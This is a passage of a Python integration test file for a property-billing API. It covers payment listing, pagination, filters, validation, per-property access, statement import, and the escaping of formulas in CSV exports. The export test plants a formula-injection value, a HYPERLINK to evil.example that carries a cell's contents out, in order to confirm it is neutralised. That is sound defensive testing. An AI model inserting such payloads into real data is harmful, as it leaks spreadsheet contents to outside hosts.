    assert [i["paid_at"] for i in items] == sorted([i["paid_at"] for i in items], reverse=True), "newest first"
    assert all(i["property_id"] == pid and isinstance(i["amount"], int) for i in items), items[:2]
    assert {"id", "unit_id", "unit_code", "amount", "currency", "method", "external_ref", "paid_at", "status",
            "reversal", "allocations", "unallocated", "source"} <= set(items[0]), items[0]
    # pages by cursor: every payment once, in the same order
    seen, cursor = [], None
    while True:
        page = _list(stack, pid, "?limit=3" + ("&cursor=" + cursor if cursor else ""))
        assert len(page["items"]) <= 3
        seen += [i["id"] for i in page["items"]]
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert seen == [i["id"] for i in items], "pages"
    # filters
    u0 = _list(stack, pid, "?unit_id=%s" % units[0])["items"]
    assert u0 and all(i["unit_id"] == units[0] for i in u0), u0
    assert len(u0) == _count(stack, "SELECT count(*) FROM billing.payments WHERE unit_id = '%s'" % units[0])
    rev = _list(stack, pid, "?status=reversed")["items"]
    assert len(rev) == 1 and rev[0]["status"] == "reversed" and rev[0]["reversal"]["reason"], rev
    rec = _list(stack, pid, "?status=received&limit=500")["items"]
    assert len(rec) == total - 1 and all(i["status"] == "received" for i in rec)
    cash = _list(stack, pid, "?method=cash&limit=500")["items"]
    assert cash and all(i["method"] == "cash" for i in cash), cash
    one = _list(stack, pid, "?external_ref=BANK-20261127-0001")["items"]
    assert len(one) == 1 and one[0]["external_ref"] == "BANK-20261127-0001", one
    today = stack.psql("SELECT ((now() AT TIME ZONE 'Asia/Shanghai')::date)::text")[0][0]
    assert len(_list(stack, pid, "?from=%s&to=%s&limit=500" % (today, today))["items"]) == total
    assert _list(stack, pid, "?to=2020-01-01")["items"] == []
    assert _list(stack, pid, "?from=2999-01-01")["items"] == []
    for bad, field in (("?status=void", "status"), ("?method=gold", "method"), ("?unit_id=x", "unit_id"),
                       ("?from=2026-13-01", "from"), ("?from=2026-02-01&to=2026-01-01", "to"),
                       ("?limit=0", "limit"), ("?limit=501", "limit"), ("?cursor=abc", "cursor")):
        err = _error(stack.http("GET", "/v1/properties/%s/payments%s" % (pid, bad), token=stack.admin_token),
                     422, "validation_failed", bad)
        assert field in {d["field"] for d in err["details"]}, (bad, err)
    # another property's payments are not in this list; an integration key sees its property only
    other_refs = {i["external_ref"] for i in _list(stack, other)["items"]}
    assert other_refs == {"BANK-20261127-0001"}, other_refs
    key = _ok(_admin(stack, "POST", "/v1/api-keys", {"name": "list feed", "role": "integration",
                                                    "property_ids": [pid]}), 201, "key")["key"]
    assert len(_list(stack, pid, "?limit=500", token=key)["items"]) == total
    r = stack.http("GET", "/v1/properties/%s/payments" % other, token=key)
    assert r.status == 404, "another property's: 404 (API.md), got %r" % r
    agent = stack.login("pay-agent", "pass-pay-agent-123")
    assert _list(stack, pid, "?limit=1", token=agent)["items"]


def test_bad_input_records_nothing(stack):
    """The issue's bad-input list beyond the cases above: amounts out of range
    everywhere money comes in, another property's unit for each write, and a
    statement whose lines are bad or belong elsewhere: clear errors or
    per-line reports, and no payment, bill or event written."""
    pid, other, uid, foreign = STATE["pid"], STATE["other"], STATE["units"][6], STATE["foreign"]

    def counts():
        return (_count(stack, "SELECT count(*) FROM billing.payments"),
                _count(stack, "SELECT count(*) FROM billing.bills"),
                _count(stack, "SELECT count(*) FROM billing.outbox"))

    before = counts()
    for amount in (100000000001, -1, 0, 10.5, "5"):
        err = _error(_admin(stack, "POST", "/v1/properties/%s/payments" % pid,
                            {"unit_id": uid, "amount": amount, "method": "cash"}), 422, "validation_failed",
                     "payment %r" % (amount,))
        assert {d["field"] for d in err["details"]} == {"amount"}, err
        for path, body in (("charges", {"unit_id": uid, "amount": amount, "reason": "x"}),
                           ("deposits", {"unit_id": uid, "amount": amount})):
            err = _error(_admin(stack, "POST", "/v1/properties/%s/%s" % (pid, path), body), 422,
                         "validation_failed", "%s %r" % (path, amount))
            assert "amount" in {d["field"] for d in err["details"]}, err
    for path, body in (("payments", {"unit_id": foreign, "amount": 100, "method": "cash"}),
                       ("charges", {"unit_id": foreign, "amount": 100, "reason": "x"}),
                       ("deposits", {"unit_id": foreign, "amount": 100})):
        err = _error(_admin(stack, "POST", "/v1/properties/%s/%s" % (pid, path), body), 422,
                     "validation_failed", "foreign unit on %s" % path)
        assert err["details"][0]["field"] == "unit_id", err
    assert counts() == before, (counts(), before)
    # a statement: BOM, CRLF, a unit of the other property, an amount over the maximum,
    # a quoted Chinese name with a comma in the reference, the same line twice
    fcode = stack.psql("SELECT code FROM billing.units WHERE unit_id = '%s'" % foreign)[0][0]
    ucode = stack.psql("SELECT code FROM billing.units WHERE unit_id = '%s'" % uid)[0][0]
    text = ("\ufeffunit_code,amount,method,external_ref\r\n"
            "%s,100,cash,BAD-1\r\n"                           # another property's unit: unmatched
            "%s,100000000001,cash,BAD-2\r\n"                  # over the maximum
            "%s,0,cash,BAD-3\r\n"
            "%s,250,cash,\"王五,物业费\"\r\n"                    # good
            "%s,250,cash,\"王五,物业费\"\r\n") % (fcode, ucode, ucode, ucode, ucode)   # the same line again
    r = _ok(_import(stack, pid, text), 200, "import")
    assert (r["imported"], r["duplicates"], r["rejected"]) == (1, 1, 3), r
    assert [e["line"] for e in r["errors"]] == [2, 3, 4], r["errors"]
    assert [u["unit_code"] for u in r["reconciliation"]["unmatched"]] == [fcode], r
    assert _count(stack, "SELECT count(*) FROM billing.payments WHERE external_ref = '王五,物业费'") == 1
    assert counts()[0] == before[0] + 1, (counts(), before)


def test_csv_exports_defuse_formulas(stack):
    """Issue G: a cell that starts like a formula (= + - @, a tab, a CR) is
    written with a leading ', so a spreadsheet shows it as text; numbers,
    negative amounts included, stay numbers."""
    pid, uid = STATE["pid"], STATE["units"][0]
    ref = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
    _pay(stack, pid, uid, 4321, method="bank_transfer", ref=ref)
    _pay(stack, pid, uid, 1111, method="bank_transfer", ref="@SUM(1+1)")
    period = stack.psql("SELECT to_char((now() AT TIME ZONE 'Asia/Shanghai')::date, 'YYYY-MM')")[0][0]
    r = _admin(stack, "GET", "/v1/properties/%s/exports/payments?period=%s" % (pid, period))
    assert r.status == 200 and r.headers["content-type"].startswith("text/csv"), r
    text = r.body[3:].decode("utf-8")
    assert '"\'=HYPERLINK(""http://evil.example/x?""&A1,""Click"")"' in text, text[-600:]
    assert '"\'@SUM(1+1)"' in text, text[-600:]
    assert ',"=HYPERLINK' not in text and ',"@SUM' not in text, "no formula left as is"
    # the JSON export is data, not a spreadsheet: the value as stored
    j = _ok(_admin(stack, "GET", "/v1/properties/%s/exports/payments?period=%s&format=json" % (pid, period)),
            200, "json")
    assert ref in {p["external_ref"] for p in j["payments"]}, "JSON keeps the value"
    # the ledger's payments are negative amounts: still numbers, not escaped text
    r = _admin(stack, "GET", "/v1/properties/%s/exports/ledger?period=%s" % (pid, period))
    lines = r.body[3:].decode("utf-8").split("\r\n")
    pays = [l for l in lines if ',"payment",' in l]
    assert pays and all(',"-' in l and ",\"'-" not in l for l in pays), pays[:3]
